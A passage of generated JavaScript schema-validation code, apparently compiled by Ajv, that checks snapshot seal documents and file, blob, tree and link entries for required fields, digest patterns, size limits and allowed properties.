!isNaN(data7))) && (isFinite(data7)))){const err20 = {instancePath:instancePath+"/expect/max_files",schemaPath:"#/$defs/size/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err20];}else {vErrors.push(err20);}errors++;}if((typeof data7 == "number") && (isFinite(data7))){if(data7 > 9007199254740991 || isNaN(data7)){const err21 = {instancePath:instancePath+"/expect/max_files",schemaPath:"#/$defs/size/maximum",keyword:"maximum",params:{comparison: "<=", limit: 9007199254740991},message:"must be <= 9007199254740991"};if(vErrors === null){vErrors = [err21];}else {vErrors.push(err21);}errors++;}if(data7 < 0 || isNaN(data7)){const err22 = {instancePath:instancePath+"/expect/max_files",schemaPath:"#/$defs/size/minimum",keyword:"minimum",params:{comparison: ">=", limit: 0},message:"must be >= 0"};if(vErrors === null){vErrors = [err22];}else {vErrors.push(err22);}errors++;}}}if(data3.files !== undefined){let data8 = data3.files;if(!(((typeof data8 == "number") && (!(data8 % 1) && !isNaN(data8))) && (isFinite(data8)))){const err23 = {instancePath:instancePath+"/expect/files",schemaPath:"#/$defs/size/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err23];}else {vErrors.push(err23);}errors++;}if((typeof data8 == "number") && (isFinite(data8))){if(data8 > 9007199254740991 || isNaN(data8)){const err24 = {instancePath:instancePath+"/expect/files",schemaPath:"#/$defs/size/maximum",keyword:"maximum",params:{comparison: "<=", limit: 9007199254740991},message:"must be <= 9007199254740991"};if(vErrors === null){vErrors = [err24];}else {vErrors.push(err24);}errors++;}if(data8 < 0 || isNaN(data8)){const err25 = {instancePath:instancePath+"/expect/files",schemaPath:"#/$defs/size/minimum",keyword:"minimum",params:{comparison: ">=", limit: 0},message:"must be >= 0"};if(vErrors === null){vErrors = [err25];}else {vErrors.push(err25);}errors++;}}}if(data3.meta_digest !== undefined){let data9 = data3.meta_digest;if(typeof data9 === "string"){if(!pattern11.test(data9)){const err26 = {instancePath:instancePath+"/expect/meta_digest",schemaPath:"#/$defs/sha256/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err26];}else {vErrors.push(err26);}errors++;}}else {const err27 = {instancePath:instancePath+"/expect/meta_digest",schemaPath:"#/$defs/sha256/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err27];}else {vErrors.push(err27);}errors++;}}if(data3.content_digest !== undefined){let data10 = data3.content_digest;if(typeof data10 === "string"){if(!pattern11.test(data10)){const err28 = {instancePath:instancePath+"/expect/content_digest",schemaPath:"#/$defs/sha256/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err28];}else {vErrors.push(err28);}errors++;}}else {const err29 = {instancePath:instancePath+"/expect/content_digest",schemaPath:"#/$defs/sha256/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err29];}else {vErrors.push(err29);}errors++;}}if(data3.special_digest !== undefined){let data11 = data3.special_digest;if(typeof data11 === "string"){if(!pattern11.test(data11)){const err30 = {instancePath:instancePath+"/expect/special_digest",schemaPath:"#/$defs/sha256/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err30];}else {vErrors.push(err30);}errors++;}}else {const err31 = {instancePath:instancePath+"/expect/special_digest",schemaPath:"#/$defs/sha256/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err31];}else {vErrors.push(err31);}errors++;}}if(data3.index !== undefined){let data12 = data3.index;if(data12 && typeof data12 == "object" && !Array.isArray(data12)){if(data12.sha256 === undefined){const err32 = {instancePath:instancePath+"/expect/index",schemaPath:"#/properties/expect/properties/index/required",keyword:"required",params:{missingProperty: "sha256"},message:"must have required property '"+"sha256"+"'"};if(vErrors === null){vErrors = [err32];}else {vErrors.push(err32);}errors++;}if(data12.entries === undefined){const err33 = {instancePath:instancePath+"/expect/index",schemaPath:"#/properties/expect/properties/index/required",keyword:"required",params:{missingProperty: "entries"},message:"must have required property '"+"entries"+"'"};if(vErrors === null){vErrors = [err33];}else {vErrors.push(err33);}errors++;}for(const key1 in data12){if(!((key1 === "sha256") || (key1 === "entries"))){const err34 = {instancePath:instancePath+"/expect/index",schemaPath:"#/properties/expect/properties/index/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key1},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err34];}else {vErrors.push(err34);}errors++;}}if(data12.sha256 !== undefined){let data13 = data12.sha256;if(typeof data13 === "string"){if(!pattern11.test(data13)){const err35 = {instancePath:instancePath+"/expect/index/sha256",schemaPath:"#/$defs/sha256/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err35];}else {vErrors.push(err35);}errors++;}}else {const err36 = {instancePath:instancePath+"/expect/index/sha256",schemaPath:"#/$defs/sha256/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err36];}else {vErrors.push(err36);}errors++;}}if(data12.entries !== undefined){let data14 = data12.entries;if(!(((typeof data14 == "number") && (!(data14 % 1) && !isNaN(data14))) && (isFinite(data14)))){const err37 = {instancePath:instancePath+"/expect/index/entries",schemaPath:"#/$defs/size/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err37];}else {vErrors.push(err37);}errors++;}if((typeof data14 == "number") && (isFinite(data14))){if(data14 > 9007199254740991 || isNaN(data14)){const err38 = {instancePath:instancePath+"/expect/index/entries",schemaPath:"#/$defs/size/maximum",keyword:"maximum",params:{comparison: "<=", limit: 9007199254740991},message:"must be <= 9007199254740991"};if(vErrors === null){vErrors = [err38];}else {vErrors.push(err38);}errors++;}if(data14 < 0 || isNaN(data14)){const err39 = {instancePath:instancePath+"/expect/index/entries",schemaPath:"#/$defs/size/minimum",keyword:"minimum",params:{comparison: ">=", limit: 0},message:"must be >= 0"};if(vErrors === null){vErrors = [err39];}else {vErrors.push(err39);}errors++;}}}}else {const err40 = {instancePath:instancePath+"/expect/index",schemaPath:"#/properties/expect/properties/index/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err40];}else {vErrors.push(err40);}errors++;}}}else {const err41 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err41];}else {vErrors.push(err41);}errors++;}}for(const key2 in data){if((((((((((((((key2 !== "kind") && (key2 !== "ignore")) && (key2 !== "expect")) && (key2 !== "id")) && (key2 !== "path")) && (key2 !== "tier")) && (key2 !== "needs")) && (key2 !== "restore")) && (key2 !== "timeout_s")) && (key2 !== "env")) && (key2 !== "secret_env")) && (key2 !== "smoke")) && (key2 !== "smoke_timeout_s")) && (key2 !== "note")){const err42 = {instancePath,schemaPath:"#/unevaluatedProperties",keyword:"unevaluatedProperties",params:{unevaluatedProperty: key2},message:"must NOT have unevaluated properties"};if(vErrors === null){vErrors = [err42];}else {vErrors.push(err42);}errors++;}}}validate32.errors = vErrors;return errors === 0;}validate32.evaluated = {"props":true,"dynamicProps":false,"dynamicItems":false};const schema60 = {"$ref":"#/$defs/common","unevaluatedProperties":false,"properties":{"kind":{"const":"link"},"expect":{"type":"object","additionalProperties":false,"required":["target"],"properties":{"target":{"type":"string","minLength":1,"maxLength":4096}}}}};function validate35(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){let vErrors = null;let errors = 0;const evaluated0 = validate35.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}if(!(validate26(data, {instancePath,parentData,parentDataProperty,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate26.errors : vErrors.concat(validate26.errors);errors = vErrors.length;}if(data && typeof data == "object" && !Array.isArray(data)){if(data.kind !== undefined){if("link" !== data.kind){const err0 = {instancePath:instancePath+"/kind",schemaPath:"#/properties/kind/const",keyword:"const",params:{allowedValue: "link"},message:"must be equal to constant"};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}}if(data.expect !== undefined){let data1 = data.expect;if(data1 && typeof data1 == "object" && !Array.isArray(data1)){if(data1.target === undefined){const err1 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/required",keyword:"required",params:{missingProperty: "target"},message:"must have required property '"+"target"+"'"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}for(const key0 in data1){if(!(key0 === "target")){const err2 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key0},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}}if(data1.target !== undefined){let data2 = data1.target;if(typeof data2 === "string"){if(func1(data2) > 4096){const err3 = {instancePath:instancePath+"/expect/target",schemaPath:"#/properties/expect/properties/target/maxLength",keyword:"maxLength",params:{limit: 4096},message:"must NOT have more than 4096 characters"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}if(func1(data2) < 1){const err4 = {instancePath:instancePath+"/expect/target",schemaPath:"#/properties/expect/properties/target/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}}else {const err5 = {instancePath:instancePath+"/expect/target",schemaPath:"#/properties/expect/properties/target/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}}}else {const err6 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;}}for(const key1 in data){if(((((((((((((key1 !== "kind") && (key1 !== "expect")) && (key1 !== "id")) && (key1 !== "path")) && (key1 !== "tier")) && (key1 !== "needs")) && (key1 !== "restore")) && (key1 !== "timeout_s")) && (key1 !== "env")) && (key1 !== "secret_env")) && (key1 !== "smoke")) && (key1 !== "smoke_timeout_s")) && (key1 !== "note")){const err7 = {instancePath,schemaPath:"#/unevaluatedProperties",keyword:"unevaluatedProperties",params:{unevaluatedProperty: key1},message:"must NOT have unevaluated properties"};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}}}validate35.errors = vErrors;return errors === 0;}validate35.evaluated = {"props":true,"dynamicProps":false,"dynamicItems":false};function validate46(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){let vErrors = null;let errors = 0;const evaluated0 = validate46.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}const _errs2 = errors;let valid1 = true;const _errs3 = errors;if(data && typeof data == "object" && !Array.isArray(data)){if(data.kind !== undefined){if("file" !== data.kind){const err0 = {};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}}}var _valid0 = _errs3 === errors;errors = _errs2;if(vErrors !== null){if(_errs2){vErrors.length = _errs2;}else {vErrors = null;}}if(_valid0){const _errs5 = errors;if(!(validate25(data, {instancePath,parentData,parentDataProperty,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate25.errors : vErrors.concat(validate25.errors);errors = vErrors.length;}var _valid0 = _errs5 === errors;valid1 = _valid0;if(valid1){var props0 = true;}}if(!valid1){const err1 = {instancePath,schemaPath:"#/allOf/0/if",keyword:"if",params:{failingKeyword: "then"},message:"must match \"then\" schema"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}const _errs7 = errors;let valid3 = true;const _errs8 = errors;if(data && typeof data == "object" && !Array.isArray(data)){if(data.kind !== undefined){if("blob" !== data.kind){const err2 = {};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}}}var _valid1 = _errs8 === errors;errors = _errs7;if(vErrors !== null){if(_errs7){vErrors.length = _errs7;}else {vErrors = null;}}if(_valid1){const _errs10 = errors;if(!(validate29(data, {instancePath,parentData,parentDataProperty,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate29.errors : vErrors.concat(validate29.errors);errors = vErrors.length;}var _valid1 = _errs10 === errors;valid3 = _valid1;if(valid3){var props1 = true;}}if(!valid3){const err3 = {instancePath,schemaPath:"#/allOf/1/if",keyword:"if",params:{failingKeyword: "then"},message:"must match \"then\" schema"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}if(props0 !== true && props1 !== undefined){if(props1 === true){props0 = true;}else {props0 = props0 || {};Object.assign(props0, props1);}}const _errs12 = errors;let valid5 = true;const _errs13 = errors;if(data && typeof data == "object" && !Array.isArray(data)){if(data.kind !== undefined){if("tree" !== data.kind){const err4 = {};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}}}var _valid2 = _errs13 === errors;errors = _errs12;if(vErrors !== null){if(_errs12){vErrors.length = _errs12;}else {vErrors = null;}}if(_valid2){const _errs15 = errors;if(!(validate32(data, {instancePath,parentData,parentDataProperty,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate32.errors : vErrors.concat(validate32.errors);errors = vErrors.length;}var _valid2 = _errs15 === errors;valid5 = _valid2;if(valid5){var props2 = true;}}if(!valid5){const err5 = {instancePath,schemaPath:"#/allOf/2/if",keyword:"if",params:{failingKeyword: "then"},message:"must match \"then\" schema"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}if(props0 !== true && props2 !== undefined){if(props2 === true){props0 = true;}else {props0 = props0 || {};Object.assign(props0, props2);}}const _errs17 = errors;let valid7 = true;const _errs18 = errors;if(data && typeof data == "object" && !Array.isArray(data)){if(data.kind !== undefined){if("link" !== data.kind){const err6 = {};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;}}}var _valid3 = _errs18 === errors;errors = _errs17;if(vErrors !== null){if(_errs17){vErrors.length = _errs17;}else {vErrors = null;}}if(_valid3){const _errs20 = errors;if(!(validate35(data, {instancePath,parentData,parentDataProperty,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate35.errors : vErrors.concat(validate35.errors);errors = vErrors.length;}var _valid3 = _errs20 === errors;valid7 = _valid3;if(valid7){var props3 = true;}}if(!valid7){const err7 = {instancePath,schemaPath:"#/allOf/3/if",keyword:"if",params:{failingKeyword: "then"},message:"must match \"then\" schema"};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}if(props0 !== true && props3 !== undefined){if(props3 === true){props0 = true;}else {props0 = props0 || {};Object.assign(props0, props3);}}if(data && typeof data == "object" && !Array.isArray(data)){if(data.kind === undefined){const err8 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "kind"},message:"must have required property '"+"kind"+"'"};if(vErrors === null){vErrors = [err8];}else {vErrors.push(err8);}errors++;}if(props0 !== true){props0 = props0 || {};props0.kind = true;}if(data.kind !== undefined){let data4 = data.kind;if(!((((data4 === "file") || (data4 === "blob")) || (data4 === "tree")) || (data4 === "link"))){const err9 = {instancePath:instancePath+"/kind",schemaPath:"#/properties/kind/enum",keyword:"enum",params:{allowedValues: schema35.properties.kind.enum},message:"must be equal to one of the allowed values"};if(vErrors === null){vErrors = [err9];}else {vErrors.push(err9);}errors++;}}}else {const err10 = {instancePath,schemaPath:"#/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err10];}else {vErrors.push(err10);}errors++;}validate46.errors = vErrors;evaluated0.props = props0;return errors === 0;}validate46.evaluated = {"dynamicProps":true,"dynamicItems":false};function validate21(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){let vErrors = null;let errors = 0;const evaluated0 = validate21.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}if(data && typeof data == "object" && !Array.isArray(data)){if(data.spelling === undefined){const err0 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "spelling"},message:"must have required property '"+"spelling"+"'"};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}if(data.member === undefined){const err1 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "member"},message:"must have required property '"+"member"+"'"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}if(data.entry === undefined){const err2 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "entry"},message:"must have required property '"+"entry"+"'"};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}for(const key0 in data){if(!((((key0 === "spelling") || (key0 === "member")) || (key0 === "entry")) || (key0 === "index"))){const err3 = {instancePath,schemaPath:"#/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key0},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}}if(data.spelling !== undefined){let data0 = data.spelling;if(typeof data0 === "string"){if(func1(data0) > 4096){const err4 = {instancePath:instancePath+"/spelling",schemaPath:"#/properties/spelling/maxLength",keyword:"maxLength",params:{limit: 4096},message:"must NOT have more than 4096 characters"};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}if(func1(data0) < 1){const err5 = {instancePath:instancePath+"/spelling",schemaPath:"#/properties/spelling/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}}else {const err6 = {instancePath:instancePath+"/spelling",schemaPath:"#/properties/spelling/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;}}if(data.member !== undefined){let data1 = data.member;if(typeof data1 === "string"){if(func1(data1) > 4096){const err7 = {instancePath:instancePath+"/member",schemaPath:"#/properties/member/maxLength",keyword:"maxLength",params:{limit: 4096},message:"must NOT have more than 4096 characters"};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}if(func1(data1) < 1){const err8 = {instancePath:instancePath+"/member",schemaPath:"#/properties/member/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err8];}else {vErrors.push(err8);}errors++;}}else {const err9 = {instancePath:instancePath+"/member",schemaPath:"#/properties/member/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err9];}else {vErrors.push(err9);}errors++;}}if(data.entry !== undefined){let data2 = data.entry;if(!(validate46(data2, {instancePath:instancePath+"/entry",parentData:data,parentDataProperty:"entry",rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate46.errors : vErrors.concat(validate46.errors);errors = vErrors.length;}else {var props0 = validate46.evaluated.props;}if(data2 && typeof data2 == "object" && !Array.isArray(data2)){if(data2.restore !== undefined){const err10 = {instancePath:instancePath+"/entry/restore",schemaPath:"#/properties/entry/allOf/1/properties/restore/false schema",keyword:"false schema",params:{},message:"boolean schema is false"};if(vErrors === null){vErrors = [err10];}else {vErrors.push(err10);}errors++;}if(data2.smoke !== undefined){const err11 = {instancePath:instancePath+"/entry/smoke",schemaPath:"#/properties/entry/allOf/1/properties/smoke/false schema",keyword:"false schema",params:{},message:"boolean schema is false"};if(vErrors === null){vErrors = [err11];}else {vErrors.push(err11);}errors++;}if(data2.smoke_timeout_s !== undefined){const err12 = {instancePath:instancePath+"/entry/smoke_timeout_s",schemaPath:"#/properties/entry/allOf/1/properties/smoke_timeout_s/false schema",keyword:"false schema",params:{},message:"boolean schema is false"};if(vErrors === null){vErrors = [err12];}else {vErrors.push(err12);}errors++;}if(data2.timeout_s !== undefined){const err13 = {instancePath:instancePath+"/entry/timeout_s",schemaPath:"#/properties/entry/allOf/1/properties/timeout_s/false schema",keyword:"false schema",params:{},message:"boolean schema is false"};if(vErrors === null){vErrors = [err13];}else {vErrors.push(err13);}errors++;}if(data2.env !== undefined){const err14 = {instancePath:instancePath+"/entry/env",schemaPath:"#/properties/entry/allOf/1/properties/env/false schema",keyword:"false schema",params:{},message:"boolean schema is false"};if(vErrors === null){vErrors = [err14];}else {vErrors.push(err14);}errors++;}if(data2.secret_env !== undefined){const err15 = {instancePath:instancePath+"/entry/secret_env",schemaPath:"#/properties/entry/allOf/1/properties/secret_env/false schema",keyword:"false schema",params:{},message:"boolean schema is false"};if(vErrors === null){vErrors = [err15];}else {vErrors.push(err15);}errors++;}if(data2.escrow !== undefined){const err16 = {instancePath:instancePath+"/entry/escrow",schemaPath:"#/properties/entry/allOf/1/properties/escrow/false schema",keyword:"false schema",params:{},message:"boolean schema is false"};if(vErrors === null){vErrors = [err16];}else {vErrors.push(err16);}errors++;}}if(props0 !== true){props0 = props0 || {};props0.restore = true;props0.smoke = true;props0.smoke_timeout_s = true;props0.timeout_s = true;props0.env = true;props0.secret_env = true;props0.escrow = true;}}if(data.index !== undefined){let data10 = data.index;if(typeof data10 === "string"){if(func1(data10) > 178956970){const err17 = {instancePath:instancePath+"/index",schemaPath:"#/properties/index/maxLength",keyword:"maxLength",params:{limit: 178956970},message:"must NOT have more than 178956970 characters"};if(vErrors === null){vErrors = [err17];}else {vErrors.push(err17);}errors++;}if(!pattern13.test(data10)){const err18 = {instancePath:instancePath+"/index",schemaPath:"#/properties/index/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z0-9+/]*={0,2}$"},message:"must match pattern \""+"^[A-Za-z0-9+/]*={0,2}$"+"\""};if(vErrors === null){vErrors = [err18];}else {vErrors.push(err18);}errors++;}}else {const err19 = {instancePath:instancePath+"/index",schemaPath:"#/properties/index/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err19];}else {vErrors.push(err19);}errors++;}}}else {const err20 = {instancePath,schemaPath:"#/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err20];}else {vErrors.push(err20);}errors++;}validate21.errors = vErrors;return errors === 0;}validate21.evaluated = {"props":true,"dynamicProps":false,"dynamicItems":false};const pattern31 = new RegExp("^[a-z0-9_-]{1,32}$", "u");const pattern25 = new RegExp("^[0-9a-f]{16}$", "u");const pattern28 = new RegExp("^[A-Za-z0-9+/]+={0,2}$", "u");function validate20(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){/*# sourceURL="urn:snapshot-wipe-resilience:schema:seal-v1.schema.json" */;let vErrors = null;let errors = 0;const evaluated0 = validate20.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}if(data && typeof data == "object" && !Array.isArray(data)){if(data.body === undefined){const err0 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "body"},message:"must have required property '"+"body"+"'"};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}if(data.signatures === undefined){const err1 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "signatures"},message:"must have required property '"+"signatures"+"'"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}for(const key0 in data){if(!((key0 === "body") || (key0 === "signatures"))){const err2 = {instancePath,schemaPath:"#/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key0},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}}if(data.body !== undefined){let data0 = data.body;if(data0 && typeof data0 == "object" && !Array.isArray(data0)){if(data0.schema === undefined){const err3 = {instancePath:instancePath+"/body",schemaPath:"#/properties/body/required",keyword:"required",params:{missingProperty: "schema"},message:"must have required property '"+"schema"+"'"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}if(data0.key === undefined){const err4 = {instancePath:instancePath+"/body",schemaPath:"#/properties/body/required",keyword:"required",params:{missingProperty: "key"},message:"must have required property '"+"key"+"'"};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}if(data0.paths === undefined){const err5 = {instancePath:instancePath+"/body",schemaPath:"#/properties/body/required",keyword:"required",params:{missingProperty: "paths"},message:"must have required property '"+"paths"+"'"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}if(data0.made === undefined){const err6 = {instancePath:instancePath+"/body",schemaPath:"#/properties/body/required",keyword:"required",params:{missingProperty: "made"},message:"must have required property '"+"made"+"'"};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;}for(const key1 in data0){if(!((((key1 === "schema") || (key1 === "key")) || (key1 === "paths")) || (key1 === "made"))){const err7 = {instancePath:instancePath+"/body",schemaPath:"#/properties/body/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key1},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}}if(data0.schema !== undefined){if("swr.seal/1" !== data0.schema){const err8 = {instancePath:instancePath+"/body/schema",schemaPath:"#/properties/body/properties/schema/const",keyword:"const",params:{allowedValue: "swr.seal/1"},message:"must be equal to constant"};if(vErrors === null){vErrors = [err8];}else {vErrors.push(err8);}errors++;}}if(data0.key !== undefined){let data2 = data0.key;if(typeof data2 === "string"){if(func1(data2) > 512){const err9 = {instancePath:instancePath+"/body/key",schemaPath:"#/properties/body/properties/key/maxLength",keyword:"maxLength",params:{limit: 512},message:"must NOT have more than 512 characters"};if(vErrors === null){vErrors = [err9];}else {vErrors.push(err9);}errors++;}if(func1(data2) < 1){const err10 = {instancePath:instancePath+"/body/key",schemaPath:"#/properties/body/properties/key/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err10];}else {vErrors.push(err10);}errors++;}}else {const err11 = {instancePath:instancePath+"/body/key",schemaPath:"#/properties/body/properties/key/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err11];}else {vErrors.push(err11);}errors++;}}if(data0.paths !== undefined){let data3 = data0.paths;if(Array.isArray(data3)){if(data3.length > 64){const err12 = {instancePath:instancePath+"/body/paths",schemaPath:"#/properties/body/properties/paths/maxItems",keyword:"maxItems",params:{limit: 64},message:"must NOT have more than 64 items"};if(vErrors === null){vErrors = [err12];}else {vErrors.push(err12);}errors++;}if(data3.length < 1){const err13 = {instancePath:instancePath+"/body/paths",schemaPath:"#/properties/body/properties/paths/minItems",keyword:"minItems",params:{limit: 1},message:"must NOT have fewer than 1 items"};if(vErrors === null){vErrors = [err13];}else {vErrors.push(err13);}errors++;}const len0 = data3.length;for(let i0=0; i0<len0; i0++){if(!(validate21(data3[i0], {instancePath:instancePath+"/body/paths/" + i0,parentData:data3,parentDataProperty:i0,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate21.errors : vErrors.concat(validate21.errors);errors = vErrors.length;}}}else {const err14 = {instancePath:instancePath+"/body/paths",schemaPath:"#/properties/body/properties/paths/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err14];}else {vErrors.push(err14);}errors++;}}if(data0.made !== undefined){let data5 = data0.made;if(data5 && typeof data5 == "object" && !Array.isArray(data5)){if(data5.at === undefined){const err15 = {instancePath:instancePath+"/body/made",schemaPath:"#/properties/body/properties/made/required",keyword:"required",params:{missingProperty: "at"},message:"must have required property '"+"at"+"'"};if(vErrors === null){vErrors = [err15];}else {vErrors.push(err15);}errors++;}if(data5.os === undefined){const err16 = {instancePath:instancePath+"/body/made",schemaPath:"#/properties/body/properties/made/required",keyword:"required",params:{missingProperty: "os"},message:"must have required property '"+"os"+"'"};if(vErrors === null){vErrors = [err16];}else {vErrors.push(err16);}errors++;}if(data5.arch === undefined){const err17 = {instancePath:instancePath+"/body/made",schemaPath:"#/properties/body/properties/made/required",keyword:"required",params:{missingProperty: "arch"},message:"must have required property '"+"arch"+"'"};if(vErrors === null){vErrors = [err17];}else {vErrors.push(err17);}errors++;}for(const key2 in data5){if(!((((key2 === "at") || (key2 === "os")) || (key2 === "arch")) || (key2 === "run"))){const err18 = {instancePath:instancePath+"/body/made",schemaPath:"#/properties/body/properties/made/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key2},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err18];}else {vErrors.push(err18);}errors++;}}if(data5.at !== undefined){let data6 = data5.at;if(typeof data6 === "string"){if(func1(data6) > 64){const err19 = {instancePath:instancePath+"/body/made/at",schemaPath:"#/properties/body/properties/made/properties/at/maxLength",keyword:"maxLength",params:{limit: 64},message:"must NOT have more than 64 characters"};if(vErrors === null){vErrors = [err19];}else {vErrors.push(err19);}errors++;}}else {const err20 = {instancePath:instancePath+"/body/made/at",schemaPath:"#/properties/body/properties/made/properties/at/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err20];}else {vErrors.push(err20);}errors++;}}if(data5.os !== undefined){let data7 = data5.os;if(typeof data7 === "string"){if(!pattern31.test(data7)){const err21 = {instancePath:instancePath+"/body/made/os",schemaPath:"#/properties/body/properties/made/properties/os/pattern",keyword:"pattern",params:{pattern: "^[a-z0-9_-]{1,32}$"},message:"must match pattern \""+"^[a-z0-9_-]{1,32}$"+"\""};if(vErrors === null){vErrors = [err21];}else {vErrors.push(err21);}errors++;}}else {const err22 = {instancePath:instancePath+"/body/made/os",schemaPath:"#/properties/body/properties/made/properties/os/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err22];}else {vErrors.push(err22);}errors++;}}if(data5.arch !== undefined){let data8 = data5.arch;if(typeof data8 === "string"){if(!pattern31.test(data8)){const err23 = 